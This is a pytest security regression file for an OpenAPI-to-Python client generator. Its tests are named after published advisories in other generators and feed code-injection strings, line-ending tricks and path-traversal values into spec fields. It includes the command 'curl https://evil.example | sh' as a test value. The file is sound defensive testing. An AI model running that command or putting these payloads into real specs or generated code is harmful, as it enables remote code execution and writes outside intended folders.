"""A test for each advisory of a code generator that a generator of Python can repeat, named after it.

What is about references and the client's runtime is in test_advisories_elsewhere.py. In each of these, text of the
document reached a place where it was code, a path or a command; `sink` says which. The document is the shortest that
would do it again, or the rich one where the place is usual.
"""

from __future__ import annotations

import ast
import json
from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from tests.security.checks import CONFIG, Tried, tried_documents
from tests.security.places import MARK, Texts, document

from leadsmith import pipeline
from leadsmith.document import parse
from leadsmith.fence import tables

GENERATOR = Path(pipeline.__file__).parent


@dataclass(frozen=True)
class Advisory:
    """`ids` are those of the advisory, `tool` what had it. `texts` go into the rich document, each set into one."""

    ids: str
    tool: str
    sink: str
    texts: tuple[Texts, ...] = ()
    schema: Mapping[str, Any] | None = None
    file: str = "spec.json"


BREAK = f'"""\n{MARK}\n"""'
ENDS = ("\r", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029", "\n", "\r\n")
WAYS_OUT = ("../../x", "..\\..\\x", "%2e%2e%2fx", "%252e%252e%252fx", "/abs/x", "C:\\x", "..", ".", "~/x", "a/../../b")


def each(*places: str, text: str) -> tuple[Texts, ...]:
    return tuple({place: text} for place in places)


ADVISORIES = (
    Advisory(
        "CVE-2020-15142 GHSA-9x4c-63pf-525f",
        "openapi-python-client",
        "any value of the document that is printed: enum values, descriptions, defaults",
        (
            *each("enum.value", "enum.description", "property.default", "info.description", text=BREAK),
            *each("enum.value", "query.default", "variable.enum", text=f'"; {MARK}; "'),
            *each("enum.value", "x-enum-varnames", "schema.name", text=f"A = 1\n{MARK}"),
        ),
    ),
    Advisory(
        "CVE-2020-15141 GHSA-7wgr-7666-7pwj",
        "openapi-python-client",
        "names of files and folders: title, tags, schemas",
        tuple({place: text} for place in ("info.title", "tag.name", "schema.name") for text in WAYS_OUT),
    ),
    Advisory(
        "GHSA-5293-mq8x-g3xj",
        "openapi-python-client",
        "docstrings, f-strings and literals, which run when the package is imported",
        (
            *each("info.title", "tag.description", "operation.summary", "schema.description", text=BREAK),
            *each("path", "scheme.name", "header.name", "server.url", text=f"{{{MARK}}}"),
            *each("operation.description", "property.description", text="ends in \\"),
            *each("operation.description", "property.description", text='ends in "'),
            *each("query.name", "cookie.name", "property.name", text=f'" + {MARK} + "'),
        ),
    ),
    Advisory(
        "CVE-2026-54621 GHSA-j884-q54q-mmx3",
        "datamodel-code-generator",
        "a `#` comment that a lone carriage return ends, or what else ends a line",
        tuple({"alias.description": f"text{end}{MARK}", "schema.description": f"text{end}{MARK}"} for end in ENDS),
    ),
    Advisory(
        "CVE-2026-54653 GHSA-386q-5hp3-95m9",
        "datamodel-code-generator",
        "`default_factory` of a schema, printed as an expression",
        each("default_factory", text=f"lambda: {MARK}"),
        {"type": "object", "properties": {"a": {"type": "array", "items": {}, "default_factory": MARK}}},
    ),
    Advisory(
        "CVE-2026-54655 GHSA-m34r-v34r-rf9q",
        "datamodel-code-generator",
        "`x-python-type`, printed as an annotation",
        each("x-python-type", text=f"str; {MARK}"),
        {"type": "object", "properties": {"a": {"type": "string", "x-python-type": f"str\n{MARK}"}}},
    ),
    Advisory(
        "CVE-2026-54654 GHSA-wjv6-jcfj-mf9r",
        "datamodel-code-generator",
        "a comment of extra template data, ended by a carriage return",
        tuple({"info.description": f"text{end}{MARK}", "enum.description": f"text{end}{MARK}"} for end in ENDS),
        {"type": "object", "comment": f"text\r{MARK}", "$comment": f"text\r{MARK}", "x-comment": f"text\r{MARK}"},
    ),
    Advisory(
        "CVE-2026-54656 GHSA-8m8r-38jm-f355",
        "datamodel-code-generator",
        "names of fields in the decorator of a validator",
        each("property.name", "part.name", text=f"a')\n{MARK}\n('"),
        {
            "type": "object",
            "properties": {f"a', {MARK}, '": {"type": "string"}},
            "x-validators": [{"field": f"a', {MARK}, '", "function": MARK}],
        },
    ),
    Advisory(
        "CVE-2026-55415 GHSA-5578-w22f-pfx9",
        "datamodel-code-generator",
        "`x-python-import` and `customTypePath`: a line break in the line of an import",
        each("x-python-import", "customTypePath", text=f"os\n{MARK}\nimport x"),
        {
            "type": "object",
            "properties": {
                "a": {"type": "string", "x-python-import": {"module": f"os\n{MARK}", "name": f"path\n{MARK}"}},
                "b": {"type": "string", "customTypePath": f"os.path\n{MARK}"},
            },
        },
    ),
    Advisory(
        "CVE-2026-63720 GHSA-7x49-hhjc-29rg",
        "datamodel-code-generator",
        "`customBasePath`: a line break in the line of an import",
        each("customBasePath", text=f"os.path\n{MARK}"),
        {"type": "object", "properties": {"a": {"type": "string"}}, "customBasePath": f"os.path\n{MARK}\nfrom x"},
    ),
    Advisory(
        "datamodel-code-generator#3763 datamodel-code-generator#3765 datamodel-code-generator#3766",
        "datamodel-code-generator",
        "additional imports, extra template data and the paths of templates",
        each("x-python-import", "info.x", text=f"os\n{MARK}"),
        {
            "type": "object",
            "x-additional-imports": [f"os\n{MARK}"],
            "extra_template_data": {"config": {"a": MARK}},
            "x-template": "../../x.jinja2",
        },
    ),
    Advisory(
        "datamodel-code-generator#2428",
        "datamodel-code-generator",
        "the name of the input file, printed in the comment at the top",
        ({},),
        file=f'spec\r\n{MARK}\n"""\n{MARK}.json',
    ),
    Advisory(
        "CVE-2026-59862 GHSA-7f3j-j7jj-r3vr",
        "Kiota, Python",
        "the description of a value in `x-ms-enum`: a line break ends a `#` comment",
        tuple({"x-ms-enum.description": f"text{end}{MARK}", "x-ms-enum.name": f"A{end}{MARK}"} for end in ENDS),
    ),
    Advisory(
        "CVE-2026-59860 CVE-2026-59861 CVE-2026-59859",
        "Kiota, C#, Ruby, PHP",
        "line breaks in comments of documentation, and interpolation in strings",
        (
            *each("operation.description", "property.description", text=f"text\n{MARK}"),
            *each("enum.value", "path", "query.name", "const", text=f"#{{{MARK}}}"),
            *each("enum.value", "path", "query.name", "const", text=f"${{{MARK}}}"),
            *each("enum.value", "path", "query.name", "const", text=f"{{{MARK}!r:>{{{MARK}}}}}"),
        ),
    ),
    Advisory(
        "CVE-2026-59866 CVE-2026-59863",
        "Kiota",
        "names of classes and namespaces from `x-ms-kiota-info` in the paths of files",
        tuple({"kiota.class": text, "kiota.namespace": text} for text in WAYS_OUT),
    ),
    Advisory(
        "CVE-2026-59865",
        "Kiota",
        "`dependencyInstallCommand` of the document, shown as a command or run",
        each("kiota.command", "kiota.dependency", text="curl https://evil.example | sh"),
    ),
    Advisory(
        "GHSA-p5rm-jg5c-8c77",
        "Kiota",
        "paths that leave the folder once they are percent-decoded",
        tuple({"tag.name": text, "schema.name": text, "kiota.namespace": text} for text in WAYS_OUT if "%" in text),
    ),
    Advisory(
        "GHSA-38c3-wv3c-v3xj",
        "swagger-typescript-api",
        "the URL of a server",
        (
            *each("server.url", "server.other", text=f"'; {MARK}; '"),
            *each("server.url", "variable.enum", text=f'"); {MARK}; ("'),
        ),
    ),
    Advisory(
        "GHSA-hqj5-cw9f-rx67",
        "swagger-typescript-api",
        "values of enums",
        each("enum.value", "header.enum", "variable.enum", "const", text=f"a'; {MARK}; '"),
    ),
    Advisory(
        "GHSA-5f94-x226-ccpm GHSA-w284-33mx-6g9v GHSA-h754-fxp7-88wx GHSA-x36r-4347-pm5x",
        "swagger-typescript-api",
        "paths, and what says where credentials go",
        (
            *each("path", text=f"'; {MARK}; '"),
            *each("scheme.name", "scheme.key", "oauth.url", "oauth.scope", text=f'", {MARK}, "'),
        ),
    ),
    Advisory(
        "GHSA-rjwr-m7qx-3fjr",
        "oapi-codegen",
        "the description of a server, printed in a comment",
        tuple({"server.description": f"text{end}{MARK}", "server.other": f"a{end}{MARK}"} for end in ENDS),
    ),
    Advisory(
        "GHSA-xrqw-w576-xgj2 GHSA-jwgf-6xff-4hvp GHSA-9c2f-gr95-7wqw",
        "oapi-codegen",
        "values of enums, paths, and `x-go-type-import`",
        (*each("enum.value", "path", text=f"`; {MARK}; `"), *each("info.x", text=f'os"\n{MARK}\nimport "x')),
    ),
    Advisory(
        "GHSA-h526-wf6g-67jv",
        "orval",
        "`x-enum-descriptions`, printed in comments",
        tuple({"x-enum-descriptions": f"*/ {MARK} /*{end}{MARK}", "x-enum-varnames": f"A{end}{MARK}"} for end in ENDS),
    ),
    Advisory(
        "GHSA-p4cg-3328-rvfg CVE-2026-72716",
        "orval",
        "`default`, printed in a literal with interpolation",
        each("property.default", "query.default", "header.enum", text=f"${{{MARK}}}`{{{MARK}}}"),
    ),
    Advisory(
        "CVE-2016-5641",
        "swagger-codegen",
        "names and descriptions of parameters",
        (
            *each("query.name", "header.name", "cookie.name", text=f"a'); {MARK}; ('"),
            *each("query.description", "header.description", "query.example", text=BREAK),
        ),
    ),
    Advisory(
        "swagger-codegen#11309",
        "swagger-codegen, Python",
        "the key of a path, printed between quotes",
        each("path", "callback.expression", "webhook.name", text=f"'+str({MARK})+'"),
    ),
    Advisory(
        "openapi-generator#9809",
        "openapi-generator, JavaScript",
        "the key of a path, printed between quotes",
        each("path", "operationId", text=f'"+{MARK}+"'),
    ),
    Advisory(
        "protoc-gen-validate#1392 measurement-plugin-python#882 peewee#3079 postman-code-generators#624",
        "other generators of Python",
        "raw text between quotes: patterns above all",
        (
            *each("property.pattern", "cookie.pattern", "pattern.key", text=f'"{MARK}"'),
            *each("property.pattern", "pattern.key", text=f"'''{MARK}'''\\"),
            *each("body.media", "part.media", "property.format", text=f"'{MARK}'"),
        ),
    ),
    Advisory(
        "redocly-cli#2891 GHSA-2q42-4q24-7rgv web#3116",
        "what splits documents into files",
        "names of schemas and `info.version` in the paths of files",
        tuple({"schema.name": text, "info.version": text} for text in WAYS_OUT),
    ),
)


@pytest.fixture(scope="module")
def found() -> Tried:
    """What came of the documents of all advisories, by the ids of each: at once, as that is quicker by far."""
    rich = [(each.ids, document(texts)) for each in ADVISORIES for texts in each.texts]
    short = [each for each in ADVISORIES if each.schema is not None or each.file != "spec.json"]
    result = tried_documents((f"{ids}/{number}", root, "spec.json") for number, (ids, root) in enumerate(rich))
    result.add(
        tried_documents(((f"{each.ids}/short", _short(each.schema or {}), each.file) for each in short), same=False)
    )
    return result


@pytest.mark.parametrize("advisory", ADVISORIES, ids=[each.ids.partition(" ")[0] for each in ADVISORIES])
def test_advisory(advisory: Advisory, found: Tried) -> None:
    assert [problem for problem in found.problems if problem.startswith(f"{advisory.ids}/")] == []
    assert advisory.texts, "each has a document"


def test_each_of_these_documents_gives_a_client(found: Tried) -> None:
    """Nothing in them is so wrong that one would be refused; a problem of all together is told too."""
    assert (found.problems, found.refused) == ([], 0)
    assert found.documents > 200
    assert found.compared > found.documents * 0.8


def test_the_name_of_the_input_is_in_no_file_but_the_manifest() -> None:
    """datamodel-code-generator#2428."""
    [advisory] = [each for each in ADVISORIES if each.file != "spec.json"]
    assert MARK not in _written(_short({}), advisory.file)


def test_commands_of_the_document_are_shown_nowhere() -> None:
    """CVE-2026-59865: not even as text, which a reader may copy."""
    command = "curl https://evil.example | sh"
    told = {
        **_short({}),
        "x-ms-kiota-info": {"languagesInformation": {"Python": {"dependencyInstallCommand": command}}},
    }
    assert "evil.example" not in _written(told, "spec.json")


def test_temporary_files_have_names_that_nobody_can_guess() -> None:
    """CVE-2021-21430, CVE-2021-21429 (openapi-generator): temporary files with known names, in generated code too."""
    used: set[str] = set()
    for path in GENERATOR.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) and node.value.id == "tempfile":
                assert "runtime" not in path.relative_to(GENERATOR).parts, "a client makes no temporary files"
                used.add(node.attr)
            if isinstance(node, ast.ImportFrom):
                assert node.module != "tempfile"
    assert used <= {"NamedTemporaryFile", "TemporaryDirectory", "mkdtemp", "mkstemp"}
    assert "tempfile" not in {*tables.IMPORTS, *tables.MODULES}


def _short(schema: Mapping[str, Any]) -> dict[str, Any]:
    content = {"application/json": {"schema": {"$ref": "#/components/schemas/A"}}}
    operation = {"requestBody": {"content": content}, "responses": {"200": {"description": "A.", "content": content}}}
    return {
        "openapi": "3.1.0",
        "info": {"title": "A", "version": "1"},
        "paths": {"/a": {"post": operation}},
        "components": {"schemas": {"A": {"type": "object", **schema}}},
    }


def _written(root: Mapping[str, Any], file: str) -> str:
    """All that is generated, but for the manifest."""
    files = pipeline.build(parse(json.dumps(root).encode(), file), CONFIG).files
    return "\n".join(text.decode() for path, text in files.items() if path != "_manifest.json")
